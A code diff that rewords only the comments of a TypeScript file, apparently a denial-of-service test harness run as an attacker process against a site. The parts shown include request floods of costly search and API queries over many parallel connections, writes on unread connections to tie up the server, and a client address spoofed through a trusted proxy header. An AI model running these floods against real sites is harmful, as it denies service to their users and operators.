@@ -4,10 +4,10 @@ import { connect } from 'node:net';
 import type { Socket } from 'node:net';
 import { setTimeout as pause } from 'node:timers/promises';
 
-// What one address may try to take a site from all others. This file is also the attacker's process:
+// Attacks by which one address may try to deny a site to all others. This file is also the attacker's process:
 // `node attacks.ts <site's url> <public key> <name of the attack>`, until it is killed.
 
-/** Everything an attacker sends comes from here, where the site trusts the proxy that says so. */
+/** The attacker's address; the site believes it because it trusts the proxy's header. */
 const address = '203.0.113.66';
 
 interface Target {
@@ -22,13 +22,13 @@ interface Sent {
   body?: string;
 }
 
-/** Does the same over and over, on so many connections at once. */
+/** Repeats an attempt on this many connections in parallel. */
 function repeat(connections: number, attempt: (target: Target) => Promise<unknown>) {
   return async (target: Target) => {
     const connection = async () => {
       for (;;) {
         await attempt(target).catch(() => undefined);
-        // Refused at once, it would keep only its own process busy.
+        // Without a pause, immediate refusals would keep only the attacker's own process busy.
         await pause(2);
       }
     };
@@ -42,7 +42,7 @@ const headersOf = ({ key }: Target, { headers }: Sent) => ({
   ...headers,
 });
 
-/** Sends such requests and reads what is answered. */
+/** Sends requests and reads the answers. */
 const flood = (connections: number, next: () => Sent) =>
   repeat(connections, async (target) => {
     const { path, ...init } = next();
@@ -58,7 +58,7 @@ function requestText(target: Target, sent: Sent): string {
   return `${sent.method ?? 'GET'} ${sent.path} HTTP/1.1\r\n${lines.join('')}\r\n`;
 }
 
-/** Writes so often on a connection that is not read, and leaves. */
+/** Writes a request this many times on a connection, reads nothing, and leaves. */
 async function writeAndLeave(
   target: Target,
   sent: Sent,
@@ -100,9 +100,9 @@ const letters = (count: number) =>
 const eightWords = () => ({
   path: `/search?q=${Array.from({ length: 8 }, () => letters(9)).join('+')}`,
 });
-/** It begins and ends as many names in titles do. */
+/** Begins and ends like many names in titles. */
 const misspelt = () => `kar${letters(3)}pur`;
-/** Words that articles have, and two that are compared with those of titles. */
+/** Words that articles contain, and two that are compared with the words of titles. */
 const twoMisspelt = () => ({ path: `/search?q=${misspelt()}+the+note+${misspelt()}+answer` });
 
 const rows = [
@@ -114,7 +114,7 @@ const rows = [
 ];
 const either = <Item>(items: readonly Item[]): Item => items[any() % items.length] as Item;
 
-/** By name; each goes on until its process ends. */
+/** The attacks by name; each continues until its process ends. */
 export const attacks: Record<string, (target: Target) => Promise<void>> = {
   'costly questions to the API': flood(50, () => ({ path: either(costly)() })),
   'rows in heaps through the API': flood(16, () => ({
